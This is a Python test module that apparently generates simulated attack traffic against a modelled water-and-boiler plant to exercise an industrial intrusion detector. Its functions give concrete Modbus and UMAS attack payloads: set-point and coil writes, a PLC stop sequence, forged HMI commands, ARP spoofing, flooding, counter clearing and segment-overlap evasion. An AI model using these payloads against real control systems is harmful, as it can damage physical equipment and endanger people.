"""Attacks on the plant. pymodbus encodes what a stack sends; scapy and raw bytes make what no honest stack does."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from pymodbus.pdu.bit_message import ReadCoilsRequest, WriteSingleCoilRequest
from pymodbus.pdu.diag_message import ClearCountersRequest, ForceListenOnlyModeRequest, RestartCommunicationsOptionRequest
from pymodbus.pdu.file_message import FileRecord, WriteFileRecordRequest
from pymodbus.pdu.mei_message import ReadDeviceInformationRequest
from pymodbus.pdu.other_message import ReportDeviceIdRequest
from pymodbus.pdu.register_message import ReadHoldingRegistersRequest, WriteSingleRegisterRequest
from scapy.layers.l2 import ARP, Ether

from tests.plant.controllers import SETPOINTS_AT, request_bytes
from tests.plant.frames import ACK, PSH, RST, SYN, Host, Talk
from tests.plant.plant import BOILER, GATEWAY, HMI, INTRUDER, OUTSIDE, SECOND, TREATMENT, Plant

if TYPE_CHECKING:
    from collections.abc import Callable

STEP: Final = 30_000_000
"""Between two probes of a scan, in nanoseconds."""


def address_sweep(plant: Plant, now: int) -> int:
    """Holding registers are read one by one."""
    session = plant.session(INTRUDER, "treatment")
    for address in range(160):
        now = session.ask(now, ReadHoldingRegistersRequest(address=address * 3, count=1)) + STEP
    session.close(now)
    return now


def function_sweep(plant: Plant, now: int) -> int:
    """Every function code is tried."""
    session = plant.session(INTRUDER, "intake")
    for code in range(1, 40):
        session.transaction += 1
        head = session.transaction.to_bytes(2) + b"\0\0" + (6).to_bytes(2) + b"\x01"
        now = session.exchange(now, head + bytes([code]) + b"\0\0\0\1") + STEP
    session.close(now)
    return now


def unit_sweep(plant: Plant, now: int) -> int:
    """All unit identifiers behind the gateway are asked."""
    session = plant.session(INTRUDER, "gateway")
    for unit in range(1, 80):
        now = session.ask(now, ReadHoldingRegistersRequest(address=0, count=1), unit) + STEP
    session.close(now)
    return now


def port_scan(plant: Plant, now: int) -> int:
    """One controller's ports are tried without completing a connection."""
    for port in (*range(20, 60), 80, 102, 443, 502, 2404, 4840, 20000, 44818):
        talk = Talk(plant.wire, INTRUDER, TREATMENT, plant.port(), port)
        talk.segment(now, True, SYN)
        if port == 502:
            talk.segment(now + 200_000, False, SYN | ACK)
            talk.segment(now + 400_000, True, RST)
        else:
            talk.segment(now + 200_000, False, RST | ACK)
        now += STEP
    return now


def identification(plant: Plant, now: int) -> int:
    """Controllers are asked who they are."""
    for name in ("intake", "treatment", "distribution", "boiler"):
        session = plant.session(INTRUDER, name)
        now = session.ask(now, ReadDeviceInformationRequest(read_code=1, object_id=0)) + SECOND
        now = session.ask(now, ReportDeviceIdRequest()) + SECOND
        session.close(now)
    return now


def set_point_write(plant: Plant, now: int) -> int:
    """A client that nobody knows raises the steam pressure's set-point."""
    session = plant.session(INTRUDER, "boiler")
    now = session.ask(now, ReadHoldingRegistersRequest(address=SETPOINTS_AT, count=3)) + SECOND
    now = session.ask(now, WriteSingleRegisterRequest(address=SETPOINTS_AT, registers=[1_350]))
    session.close(now)
    return now


def forged_command(plant: Plant, now: int) -> int:
    """A command is put into the HMI's own connection between two polls: the HMI's address, port and sequence number."""
    session = plant.hmi["treatment"]
    talk, now = session.opened(now)
    request = request_bytes(WriteSingleRegisterRequest(address=SETPOINTS_AT + 1, registers=[900]), 0xBEEF, 1)
    answer = session.controller.answer(request, now)
    talk.send(now, request)
    talk.receive(now + 3_000_000, answer)
    talk.acknowledge(now + 3_200_000)
    return now + 3_200_000


def coil_toggling(plant: Plant, now: int) -> int:
    """A pump's coil is switched on and off again and again."""
    session = plant.session(INTRUDER, "distribution")
    for number in range(30):
        now = session.ask(now, WriteSingleCoilRequest(address=0, bits=[number % 2 == 0])) + SECOND
    session.close(now)
    return now


def listen_only(plant: Plant, now: int) -> int:
    """A controller is restarted and then ordered to listen only."""
    session = plant.session(INTRUDER, "intake")
    now = session.ask(now, RestartCommunicationsOptionRequest()) + SECOND
    talk, now = session.opened(now)
    talk.send(now, request_bytes(ForceListenOnlyModeRequest(), 0x77, 1))
    session.close(now + SECOND)
    return now + SECOND


def clear_counters(plant: Plant, now: int) -> int:
    """Diagnostic counters are cleared to hide what was done."""
    session = plant.session(INTRUDER, "treatment")
    now = session.ask(now, ClearCountersRequest())
    session.close(now)
    return now


def umas_stop(plant: Plant, now: int) -> int:
    """The boiler's controller is reserved and stopped by UMAS (function 90)."""
    talk = Talk(plant.wire, INTRUDER, BOILER, plant.port())
    now = talk.open(now)
    for transaction, (question, answer) in enumerate(
        (
            (b"\x5a\x00\x02", b"\x5a\x00\xfe\x01\x02"),
            (b"\x5a\x00\x10\x1d\x00\x00\x00", b"\x5a\x00\xfe\x5b"),
            (b"\x5a\x5b\x41\xff\x00", b"\x5a\x5b\xfe"),
        ),
        1,
    ):
        talk.send(now, _crafted(transaction, question, 0))
        talk.receive(now + 3_000_000, _crafted(transaction, answer, 0))
        now += SECOND
    return talk.close(now)


def arp_spoofing(plant: Plant, now: int) -> int:
    """The intruder tells the HMI that it is a controller, and the controller that it is the HMI."""
    for _ in range(10):
        for claimed, receiver in ((TREATMENT, HMI), (HMI, TREATMENT)):
            reply = ARP(op=2, hwsrc=INTRUDER.mac, psrc=claimed.ip, hwdst=receiver.mac, pdst=receiver.ip)
            plant.wire.put(now, bytes(Ether(src=INTRUDER.mac, dst=receiver.mac) / reply))
            now += 1_000_000
        now += SECOND
    return now


def flood(plant: Plant, now: int) -> int:
    """Requests come faster than any controller answers."""
    talk = Talk(plant.wire, INTRUDER, GATEWAY, plant.port())
    now = talk.open(now)
    for transaction in range(3_000):
        talk.send(now, request_bytes(ReadCoilsRequest(address=0, count=8), transaction, 1))
        now += 1_000_000
    talk.reset(now)
    return now


def broadcast_write(plant: Plant, now: int) -> int:
    """A coil is written at all serial units at once."""
    talk = Talk(plant.wire, INTRUDER, GATEWAY, plant.port())
    now = talk.open(now)
    talk.send(now, request_bytes(WriteSingleCoilRequest(address=0, bits=[True]), 1, 0))
    talk.acknowledge(now + 200_000, from_client=False)
    return talk.close(now + SECOND)


def file_write(plant: Plant, now: int) -> int:
    """A file record is written, as firmware tools do."""
    session = plant.session(INTRUDER, "boiler")
    for record in range(12):
        request = WriteFileRecordRequest(
            records=[FileRecord(file_number=4, record_number=record, record_data=b"\x4d\x5a\x90\x00")]
        )
        now = session.ask(now, request) + STEP
    session.close(now)
    return now


def overlapping_segments(plant: Plant, now: int) -> int:
    """The same bytes are sent twice with another content, to show a monitor something else than the controller gets."""
    talk = Talk(plant.wire, INTRUDER, BOILER, plant.port())
    now = talk.open(now)
    harmless = request_bytes(ReadHoldingRegistersRequest(address=0, count=1), 1, 1)
    hidden = request_bytes(WriteSingleRegisterRequest(address=SETPOINTS_AT, registers=[1]), 1, 1)
    place = talk.sequence[True]
    talk.send(now, harmless)
    plant.wire.put(now + 100_000, talk.frame(True, PSH | ACK, hidden, sequence=place))
    talk.receive(now + 3_000_000, plant.controllers["boiler"].answer(harmless, now))
    return talk.close(now + SECOND)


def outside_client(plant: Plant, now: int) -> int:
    """A public address reads a controller."""
    session = plant.session(OUTSIDE, "distribution")
    for _ in range(5):
        now = session.ask(now, ReadHoldingRegistersRequest(address=0, count=10)) + SECOND
    session.close(now)
    return now


def _crafted(transaction: int, pdu: bytes, unit: int) -> bytes:
    return transaction.to_bytes(2) + b"\0\0" + (len(pdu) + 1).to_bytes(2) + bytes([unit]) + pdu


Attack = tuple[str, tuple[Host, ...], "Callable[[Plant, int], int]"]

ATTACKS: Final[dict[str, Attack]] = {
    "address_sweep": ("T0861", (INTRUDER, TREATMENT), address_sweep),
    "function_sweep": ("T0846", (INTRUDER,), function_sweep),
    "unit_sweep": ("T0846", (INTRUDER, GATEWAY), unit_sweep),
    "port_scan": ("T0846.001", (INTRUDER, TREATMENT), port_scan),
    "identification": ("T0888", (INTRUDER,), identification),
    "set_point_write": ("T0836", (INTRUDER, BOILER), set_point_write),
    "forged_command": ("T1692.001", (HMI, TREATMENT), forged_command),
    "coil_toggling": ("T0806", (INTRUDER,), coil_toggling),
    "listen_only": ("T0814", (INTRUDER,), listen_only),
    "clear_counters": ("T0872", (INTRUDER, TREATMENT), clear_counters),
    "umas_stop": ("T0858", (INTRUDER, BOILER), umas_stop),
    "arp_spoofing": ("T0830", (INTRUDER, HMI, TREATMENT), arp_spoofing),
    "flood": ("T0814", (INTRUDER, GATEWAY), flood),
    "broadcast_write": ("T1692.001", (INTRUDER, GATEWAY), broadcast_write),
    "file_write": ("T0843", (INTRUDER, BOILER), file_write),
    "overlapping_segments": ("T0836", (INTRUDER, BOILER), overlapping_segments),
    "outside_client": ("T0883", (OUTSIDE,), outside_client),
}
"""Attacks by name: technique of ATT&CK for ICS (release 19), hosts, what is done."""


def schedule(plant: Plant, name: str, moment: int) -> None:
    """Let an attack happen at a time."""
    technique, hosts, action = ATTACKS[name]
    plant.attack(moment, name, technique, hosts, lambda now: action(plant, now))
